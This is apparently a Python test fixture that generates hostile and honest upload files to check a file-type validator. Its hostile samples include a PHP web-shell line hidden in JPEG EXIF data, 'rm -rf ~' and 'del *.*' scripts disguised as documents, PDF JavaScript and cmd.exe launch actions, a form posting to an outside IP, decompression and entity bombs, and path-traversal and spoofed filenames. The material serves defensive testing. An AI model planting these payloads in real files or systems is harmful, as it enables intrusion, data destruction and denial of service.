"""Hostile files by kind, and honest ones to compare with; made here, so that none lies in the repository."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from cpegi_app.services.filetypes import DOCUMENTS, MAX_FILE_BYTES, WORKBOOKS, FileKind
from tests import hostile_build as build
from tests.hostile_build import (
    EXE,
    HTML,
    OLE,
    SCRIPT,
    SVG,
    archive,
    jpeg_with,
    object_stream,
    pdf,
    picture,
    png,
    png_header,
    sheet,
    stream,
    workbook,
)


@dataclass(frozen=True)
class Case:
    """One file: its kind of attack, what it is, the name it comes under, its content and where it is sent."""

    kind: str
    what: str
    name: str
    make: Callable[[], bytes]
    allowed: frozenset[FileKind] = DOCUMENTS

    @property
    def id(self) -> str:
        return f"{self.kind}: {self.what}"


_PIXEL = (b"IDAT", zlib.compress(b"\0\0\0\0"))
_END = (b"IEND", b"")
_JS = b"<< /S /JavaScript /JS (" + SCRIPT + b") >>"
_NINE = b"9 0 " + _JS
_RUNS = b"/OpenAction 9 0 R"
_LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
_ZIP = archive({"evil.class": b"\xca\xfe\xba\xbe" * 40})
_REL = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="http://203.0.113.9/x" TargetMode="External"/></Relationships>'
)


def _twice(body: bytes) -> bytes:
    return zlib.compress(zlib.compress(body))


def hostile() -> list[Case]:
    """Return all hostile files."""
    parts = (_sizes, _programs, _web, _office, _archives, _pdfs, _pictures, _books, _names)
    return [case for part in parts for case in part()]


def _sizes() -> Iterator[Case]:
    yield Case("size", "empty pdf", "a.pdf", bytes)
    yield Case("size", "empty picture", "a.jpg", bytes)
    yield Case("size", "empty workbook", "a.xlsx", bytes, WORKBOOKS)
    yield Case("size", "pdf of cap + 1", "a.pdf", build.oversized_pdf)
    yield Case("size", "picture of cap + 1", "a.png", lambda: picture("PNG") + b"\0" * MAX_FILE_BYTES)
    yield Case("size", "one byte", "a.pdf", lambda: b"%")


def _programs() -> Iterator[Case]:
    yield Case("program", "exe as pdf", "营业执照.pdf", lambda: EXE)
    yield Case("program", "exe as xlsx", "a.xlsx", lambda: EXE, WORKBOOKS)
    yield Case("program", "elf as jpg", "a.jpg", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 500)
    yield Case("program", "java class as png", "a.png", lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 500)
    yield Case("program", "windows shortcut as pdf", "a.pdf", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 500)
    yield Case("program", "shell script as pdf", "a.pdf", lambda: b"#!/bin/sh\nrm -rf ~\n")
    yield Case("program", "batch file as jpg", "a.jpg", lambda: b"@echo off\r\ndel *.*\r\n")
    yield Case("program", "shell script that ends like a pdf", "a.pdf", lambda: b"#!/bin/sh\n" + pdf())
    yield Case("program", "pdf named exe", "a.exe", pdf)
    yield Case("program", "pdf named pdf.exe", "a.pdf.exe", pdf)
    yield Case("program", "exe behind a pdf", "a.pdf", lambda: pdf() + EXE)
    yield Case(
        "program", "exe behind a pdf, end mark again", "a.pdf", lambda: pdf() + EXE + b"startxref\n9\n%%EOF\n"
    )
    yield Case("program", "exe behind a jpg", "a.jpg", lambda: picture("JPEG") + EXE)
    yield Case("program", "exe behind a picture", "a.png", lambda: picture("PNG") + EXE)


def _web() -> Iterator[Case]:
    yield Case("web", "html as pdf", "a.pdf", lambda: HTML)
    yield Case("web", "html with byte order mark as jpg", "a.jpg", lambda: b"\xef\xbb\xbf" + HTML)
    yield Case("web", "html in front of a pdf", "a.pdf", lambda: HTML + pdf())
    yield Case("web", "html behind a jpg", "a.jpg", lambda: picture("JPEG") + HTML)
    yield Case("web", "html behind a png", "a.png", lambda: picture("PNG") + HTML)
    yield Case("web", "html in a jpg's comment", "a.jpg", lambda: jpeg_with(HTML))
    yield Case(
        "web", "php in a jpg's exif", "a.jpg", lambda: jpeg_with(b"Exif\0\0<?php system($_GET[0]);?>", 0xE1)
    )
    yield Case(
        "web",
        "script in a png's text",
        "a.png",
        lambda: png(png_header(1, 1), (b"tEXt", b"a\0" + HTML), _PIXEL, _END),
    )
    yield Case("web", "svg", "a.svg", lambda: SVG)
    yield Case("web", "svg as png", "a.png", lambda: SVG)
    yield Case(
        "web", "svg behind an xml declaration as jpg", "a.jpg", lambda: b'<?xml version="1.0"?>\n' + SVG
    )
    yield Case(
        "web", "web archive as pdf", "a.pdf", lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML
    )


def _office() -> Iterator[Case]:
    word = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "_rels/.rels": b"<r/>"}
    sheets = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}
    yield Case("office", "old workbook as xlsx", "a.xlsx", lambda: OLE, WORKBOOKS)
    yield Case("office", "old workbook as pdf", "a.pdf", lambda: OLE)
    yield Case("office", "workbook with a password", "a.xlsx", build.locked, WORKBOOKS)
    yield Case("office", "workbook with a password as pdf", "a.pdf", build.locked)
    yield Case("office", "word as xlsx", "a.xlsx", lambda: archive({**word}), WORKBOOKS)
    yield Case("office", "word as pdf", "a.pdf", lambda: archive({**word}))
    yield Case("office", "xlsx as pdf", "a.pdf", workbook)
    yield Case("office", "open document as xlsx", "a.xlsx", lambda: archive({**sheets}), WORKBOOKS)
    yield Case("office", "rtf as pdf", "a.pdf", lambda: b"{\\rtf1{\\object}}")
    yield Case("office", "postscript as pdf", "a.pdf", lambda: b"%!PS-Adobe-3.0\n" + pdf())
    macro = build.content_types(lambda t: t.replace(b"spreadsheetml.sheet.main", b"sheet.macroEnabled.main"))
    yield Case("office", "macro type as xlsx", "a.xlsx", lambda: workbook(macro), WORKBOOKS)
    yield Case("office", "macro workbook named xlsm", "a.xlsm", workbook, WORKBOOKS)
    for part in ("xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/embeddings/oleObject1.bin"):
        yield Case("office", f"with {part}", "a.xlsx", lambda part=part: workbook({part: b"<x/>"}), WORKBOOKS)
    for part in ("xl/activeX/activeX1.xml", "xl/macrosheets/sheet1.xml", "xl/connections.xml"):
        yield Case("office", f"with {part}", "a.xlsx", lambda part=part: workbook({part: b"<x/>"}), WORKBOOKS)
    outward = {"xl/worksheets/_rels/sheet1.xml.rels": _REL % b"attachedTemplate"}
    yield Case("office", "with an outward template", "a.xlsx", lambda: workbook({**outward}), WORKBOOKS)


def _archives() -> Iterator[Case]:
    yield Case("archive", "zip as pdf", "a.pdf", lambda: _ZIP)
    yield Case("archive", "zip as xlsx", "a.xlsx", lambda: _ZIP, WORKBOOKS)
    yield Case("archive", "nested zip as xlsx", "a.xlsx", lambda: archive({"a.xlsx": workbook()}), WORKBOOKS)
    yield Case("archive", "rar as jpg", "a.jpg", lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 300)
    yield Case("archive", "7z as png", "a.png", lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 300)
    yield Case("archive", "gzip as pdf", "a.pdf", lambda: b"\x1f\x8b\x08\0" + b"\0" * 300)
    yield Case("archive", "zip behind a pdf", "a.pdf", lambda: pdf() + _ZIP)
    yield Case("archive", "zip inside a pdf's stream", "a.pdf", lambda: pdf(stream(_ZIP)))
    yield Case(
        "archive", "zip with a pdf's end as comment", "a.pdf", lambda: build.pdf_zip_with_comment(_ZIP)
    )
    yield Case("archive", "zip behind a jpg", "a.jpg", lambda: picture("JPEG") + _ZIP)
    yield Case("archive", "zip in a jpg's segment", "a.jpg", lambda: jpeg_with(_ZIP))
    yield Case("archive", "zip behind a png", "a.png", lambda: picture("PNG") + _ZIP)
    yield Case(
        "archive",
        "rar in a png's chunk",
        "a.png",
        lambda: png(png_header(1, 1), (b"raRr", b"Rar!\x1a\x07\0"), _PIXEL, _END),
    )
    yield Case("archive", "phar in a jpg", "a.jpg", lambda: jpeg_with(b"__HALT_COMPILER(); ?>"))


def _pdfs() -> Iterator[Case]:
    def case(what: str, make: Callable[[], bytes]) -> Case:
        return Case("pdf", what, "a.pdf", make)

    hidden = b"<< /S /J#61vaScript /#4aS (" + SCRIPT + b") >>"
    filler = b"\n".join(b"%d 0 obj << >>" % n for n in range(5))
    yield case("cut in the middle", lambda: pdf()[:300])
    yield case("cut, end mark added", lambda: pdf()[:300] + b"\nstartxref\n700\n%%EOF\n")
    yield case("header and end only", lambda: b"%PDF-1.7\nstartxref\n0\n%%EOF\n")
    yield case("no page", lambda: pdf().replace(b"/Type /Page", b"/Type /Pxge"))
    yield case("no end mark", lambda: pdf().replace(b"%%EOF", b"     "))
    yield case("end mark far behind", lambda: pdf() + b" " * 4000)
    yield case("encrypted", build.encrypted_pdf)
    yield case("encrypted, name disguised", lambda: pdf(trailer=b"/#45ncrypt 5 0 R"))
    yield case("script (pypdf)", build.pdf_with_script)
    yield case("script at opening", lambda: pdf(_JS, catalog=b"/OpenAction 5 0 R"))
    yield case("script, names disguised", lambda: pdf(hidden, catalog=b"/OpenAction 5 0 R"))
    yield case("script in a page's action", lambda: pdf(b"<< /AA << /O " + _JS + b" >> >>"))
    yield case("script in an object stream", lambda: pdf(object_stream(_JS), catalog=_RUNS))
    yield case("script in an object stream, disguised", lambda: pdf(object_stream(hidden), catalog=_RUNS))
    chain = b"[/ASCII85Decode /FlateDecode]"
    yield case(
        "script in a doubly packed object stream",
        lambda: pdf(
            object_stream(_JS, lambda b: base64.a85encode(zlib.compress(b)) + b"~>", chain), catalog=_RUNS
        ),
    )
    twice = b"[/FlateDecode /FlateDecode]"
    yield case(
        "script in a twice deflated object stream",
        lambda: pdf(object_stream(_JS, _twice, twice), catalog=_RUNS),
    )
    broken = object_stream(_JS, build.bad_checksum)
    yield case("script behind a bad check sum", lambda: pdf(broken, catalog=_RUNS))
    packed = object_stream(_JS, build.half_stored)
    yield case("script behind a false end of stream", lambda: pdf(packed, catalog=_RUNS))
    decoy = b"/FlateDecode /X (>> stream\n1 0 R) /Y <</Z[(\\))]>> /Filter [/FlateDecode /FlateDecode]"
    yield case(
        "script behind a decoy in a string", lambda: pdf(object_stream(_JS, _twice, decoy), catalog=_RUNS)
    )
    spelt = object_stream(_JS, _twice, b"[/FlateDecode /FlateDecode]").replace(b"/ObjStm", b"/O#62jStm")
    yield case("twice deflated, type disguised", lambda: pdf(spelt, catalog=_RUNS))
    row = b"".join(b"\0" + _NINE[n : n + 5] for n in range(0, len(_NINE), 5))
    columns = b"/FlateDecode /DecodeParms << /Predictor 12 /Columns 5 >>"
    yield case(
        "script behind a predictor", lambda: pdf(object_stream(b"", lambda _: zlib.compress(row), columns))
    )
    indirect = object_stream(_JS, _twice, b"6 0 R").replace(b"/ObjStm", b"7 0 R")
    yield case("type given elsewhere", lambda: pdf(indirect, b"[/FlateDecode /FlateDecode]", b"/ObjStm"))
    many = b"<< " + b"/ObjStm " * 200 + b">>\nstream\n1 0 null\nendstream"
    yield case("one stream declared a million times", lambda: pdf(*[many] * 2500))
    spaced = object_stream(_JS, lambda b: b.hex(" ").encode() + b">", b"/ASCIIHexDecode")
    yield case("script in a spelt-out object stream", lambda: pdf(spaced, catalog=_RUNS))
    yield case("bomb in a nameless stream", lambda: pdf(stream(zlib.compress(b"1 0 " * (20 << 20)))))
    yield case(
        "object stream without its type", lambda: pdf(stream(zlib.compress(b"9 0 " + _JS), b"/N 1 /First 4"))
    )
    yield case(
        "object stream behind a false stream", lambda: pdf(b"% stream\n", object_stream(_JS), catalog=_RUNS)
    )
    yield case("launch", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 5 0 R"))
    yield case("attachment (pypdf)", build.pdf_with_attachment)
    yield case(
        "attachment by annotation",
        lambda: pdf(b"<< /Subtype /FileAttachment /FS << /EF << /F 6 0 R >> >> >>"),
    )
    typeless = b"<< /F (a.exe) /EF << /F 6 0 R >> >>"
    yield case("attachment without its type", lambda: pdf(typeless, stream(EXE)))
    yield case("rich media", lambda: pdf(b"<< /Subtype /RichMedia >>"))
    yield case("dynamic form", lambda: pdf(stream(b"<xdp/>"), catalog=b"/AcroForm << /XFA 5 0 R >>"))
    yield case("form that is sent away", lambda: pdf(b"<< /S /SubmitForm /F (http://203.0.113.9/) >>"))
    yield case(
        "file on another machine", lambda: pdf(b"<< /S /GoToR /F (\\\\\\\\203.0.113.9\\\\share) /D [0] >>")
    )
    yield case("gif in front", lambda: b"GIF89a" + pdf())
    yield case("jpg in front", lambda: jpeg_with(pdf()) + b"startxref\n9\n%%EOF")
    yield case("bomb in an object stream", lambda: pdf(object_stream(b"<< " + b"0 " * (60 << 20) + b">>")))
    yield case("a million unclosed streams", lambda: pdf(b"stream\n" * 1_300_000))
    yield case("a million unclosed streams in a stream", lambda: pdf(stream(b"stream\n" * 1_300_000)))
    yield case("many streams that begin alike", lambda: pdf(b"stream\n1 0 " * 900_000))
    yield case("three million escapes", lambda: pdf(b"/" + b"#41" * 3_000_000))
    yield case("objects without a table", lambda: b"%PDF-1.4\n" + filler + b"\nstartxref\n4\n%%EOF\n")


def _pictures() -> Iterator[Case]:
    def case(what: str, name: str, make: Callable[[], bytes]) -> Case:
        return Case("picture", what, name, make)

    bomb = b"a\0\0" + zlib.compress(b"0" * (80 << 20))
    yield case("jpg cut", "a.jpg", lambda: picture("JPEG")[:-200])
    yield case("jpg without a scan", "a.jpg", lambda: picture("JPEG").split(b"\xff\xda")[0] + b"\xff\xd9")
    yield case("jpg start only", "a.jpg", lambda: b"\xff\xd8\xff\xe0")
    yield case("jpg of 65,500 × 65,500", "a.jpg", lambda: build.jpeg_sized(65_500, 65_500))
    yield case("jpg of 8,000 × 5,001", "a.jpg", lambda: build.jpeg_sized(8000, 5001))
    yield case("png of 8,000 × 5,001", "a.png", lambda: png(png_header(8000, 5001), _PIXEL, _END))
    yield case(
        "jpg with a gap", "a.jpg", lambda: picture("JPEG").replace(b"\xff\xdb", b"\0\0\0\2\xff\xdb", 1)
    )
    yield case("jpg of no width", "a.jpg", lambda: build.jpeg_sized(0, 10))
    yield case("jpg of a thousand scans", "a.jpg", lambda: build.jpeg_scans(1000))
    yield case("jpg of fill bytes", "a.jpg", lambda: b"\xff\xd8" + b"\xff" * (MAX_FILE_BYTES - 2))
    yield case("jpg of empty segments", "a.jpg", lambda: b"\xff\xd8" + b"\xff\xfe\0\x02" * 2_500_000)
    yield case(
        "jpg of lossless coding", "a.jpg", lambda: picture("JPEG").replace(b"\xff\xc0", b"\xff\xc3", 1)
    )
    yield case("png cut", "a.png", lambda: picture("PNG")[:-20])
    yield case("png with a wrong check sum", "a.png", lambda: picture("PNG").replace(b"IDAT", b"IDaT", 1))
    yield case("png of 60,000 × 60,000", "a.png", lambda: png(png_header(60_000, 60_000), _PIXEL, _END))
    yield case("png of 2³¹ × 1", "a.png", lambda: png(png_header(2**31, 1), _PIXEL, _END))
    yield case("png of no height", "a.png", lambda: png(png_header(1, 0), _PIXEL, _END))
    yield case("png without pixels", "a.png", lambda: png(png_header(1, 1), _END))
    yield case("png with a text bomb", "a.png", lambda: png(png_header(1, 1), (b"zTXt", bomb), _PIXEL, _END))
    yield case(
        "png with a colour profile bomb",
        "a.png",
        lambda: png(png_header(1, 1), (b"iCCP", bomb), _PIXEL, _END),
    )
    yield case(
        "png of a million chunks", "a.png", lambda: png(png_header(1, 1), *[(b"teXt", b"")] * 800_000, _END)
    )
    yield case("gif as png", "a.png", lambda: picture("GIF"))
    yield case("gif", "a.gif", lambda: picture("GIF"))
    yield case("bmp as jpg", "a.jpg", lambda: picture("BMP"))
    yield case("webp as jpg", "a.jpg", lambda: picture("WEBP"))
    yield case("tiff as jpg", "a.jpg", lambda: picture("TIFF"))
    yield case("heic as jpg", "a.jpg", lambda: b"\0\0\0\x24ftypheic\0\0\0\0mif1heic" + b"\0" * 500)
    yield case("jpg as png", "a.png", lambda: picture("JPEG"))
    yield case("png as pdf", "a.pdf", lambda: picture("PNG"))


def _books() -> Iterator[Case]:
    def case(what: str, make: Callable[[], bytes]) -> Case:
        return Case("workbook", what, "a.xlsx", make, WORKBOOKS)

    wide = b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    merges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n, n) for n in range(1, 20_000))
    outside = b'<Relationship Id="a>" Type="x/oleObject" TargetMode="External"/>'
    yield case("65,000 members", build.crowded_workbook)
    yield case("members beyond the stated count", lambda: build.count_of_five(build.crowded_workbook()))
    yield case("200 MB of zeros", lambda: workbook({"xl/worksheets/sheet1.xml": b"0" * (200 << 20)}))
    yield case("49 MB of zeros", lambda: workbook({"xl/worksheets/sheet1.xml": b"0" * (49 << 20)}))
    yield case("shared string bomb", lambda: build.strings(b"<si><t>0</t></si>" * 2_500_000))
    yield case("too many shared strings", lambda: build.own_strings(600_000))
    yield case("style bomb", lambda: build.styles(150_000))
    yield case("cell far down", lambda: workbook(sheet(b'<sheetData><row r="1048576"/></sheetData>')))
    yield case("cell far right", lambda: workbook(sheet(b'<sheetData><row><c r="XFD1"/></row></sheetData>')))
    yield case("merge over everything", lambda: workbook(sheet(wide)))
    yield case("twenty thousand merges", lambda: workbook(sheet(merges)))
    yield case("1,100,000 cells", lambda: workbook(sheet(build.cells(1_100_000))))
    yield case("40 MB of links cut short", lambda: build.links(b"<Relationship " * 2_900_000))
    yield case(
        "a link outside among 600,000", lambda: build.links(outside + b"<External /hyperlink/>" * 600_000)
    )
    yield case("40 MB of merges cut short", lambda: build.ballasted(sheet(b"mergeCell " * 4_000_000)))
    yield case("entity bomb", lambda: workbook(sheet(b"", _LAUGHS)))
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?>' + _LAUGHS.decode() + "<a>&b;</a>").encode("utf-16")
    yield case("entity bomb in utf-16", lambda: workbook({"xl/worksheets/sheet1.xml": utf16}))
    odd = b'<?xml version="1.0" encoding="cp037"?>' + _LAUGHS.decode().encode("cp037")
    yield case("entity bomb in another encoding", lambda: workbook({"xl/worksheets/sheet1.xml": odd}))
    for name in ("../../etc/cron.d/a", "/etc/passwd", "xl\\..\\a.xml", "xl/\x01.xml", "C:/a.xml"):
        yield case(f"member {name!r}", lambda name=name: workbook({name: b"<a/>"}))
    yield case("two members of one name", build.duplicate_member)
    yield case("encrypted members", lambda: build.flagged(0x1))
    yield case("members that share bytes", build.overlapping_members)
    yield case("a size that lies", build.lying_size)
    yield case("lzma", lambda: workbook(pack=build.zipfile.ZIP_LZMA))
    yield case("exe in front", lambda: EXE + workbook())
    yield case("bytes between", lambda: _ZIP[:80] + workbook())
    yield case("a member that is not listed", build.unlisted_member)
    yield case("bytes behind", lambda: workbook() + b"\0" * 10)
    yield case("cut", lambda: workbook()[:-300])
    yield case("one byte changed", lambda: build.one_byte_changed(workbook()))
    yield case("no content types", lambda: workbook({"[Content_Types].xml": None}))


def _names() -> Iterator[Case]:
    for what, name in {
        "nul": "a.pdf\0.exe",
        "nul before the extension": "a.exe\0.pdf",
        "right-to-left override": "合同\u202efdp.exe",
        "right-to-left override on a real pdf": "合同\u202eexe.pdf",
        "isolate": "a\u2066.pdf",
        "line break": "a\r\nSet-Cookie: x=1.pdf",
        "escape sequence": "a\x1b[2J.pdf",
        "no extension": "营业执照",
        "extension only": ".pdf",
        "nothing": "",
        "dots": "...",
        "another extension": "a.html",
        "trailing dot": "a.exe.",
        "alternate stream": "a.pdf:evil.exe",
        "picture extension": "a.jpg",
    }.items():
        yield Case("name", what, name, pdf)


def honest() -> list[Case]:
    """Return files that people really send; all must be accepted."""
    out = [
        Case("honest", "pdf by hand", "授权书.pdf", pdf),
        Case("honest", "pdf, capital extension", "SCAN0001.PDF", pdf),
        Case("honest", "pdf with a line break in front", "a.pdf", lambda: b"\r\n" + pdf()),
        Case("honest", "pdf by pypdf", "a.pdf", build.pypdf_pdf),
        Case("honest", "pdf with object streams", "a.pdf", lambda: pdf(object_stream(b"<< /Type /Font >>"))),
        Case("honest", "pdf with a link", "a.pdf", lambda: pdf(b"<< /S /URI /URI (https://example.com) >>")),
        Case("honest", "pdf by pillow", "扫描件.pdf", lambda: picture("PDF")),
        Case(
            "honest",
            "pdf of nearly 10 MB",
            "a.pdf",
            lambda: pdf(stream(zlib.compress(b"\1" * 99, 0) * 90_000)),
        ),
        Case("honest", "jpg", "照片.jpg", lambda: picture("JPEG")),
        Case("honest", "jpg named jpeg", "a.jpeg", lambda: picture("JPEG")),
        Case("honest", "jpg, progressive, 12 MP", "a.jpg", build.progressive_jpeg),
        Case(
            "honest",
            "jpg with a second picture behind",
            "a.jpg",
            lambda: picture("JPEG") + picture("JPEG", (64, 40)),
        ),
        Case("honest", "png", "截图 (1).png", lambda: picture("PNG")),
        Case("honest", "png of 39 MP", "a.png", lambda: picture("PNG", (6500, 6000))),
        Case("honest", "workbook", "导入模板.xlsx", workbook, WORKBOOKS),
        Case("honest", "workbook of 20,000 rows, each cell a text", "a.xlsx", build.long_workbook, WORKBOOKS),
        Case("honest", "workbook with a web link", "a.xlsx", build.linked_workbook, WORKBOOKS),
        Case("honest", "path in the name", "C:\\Users\\王\\a.pdf", pdf),
    ]
    return out
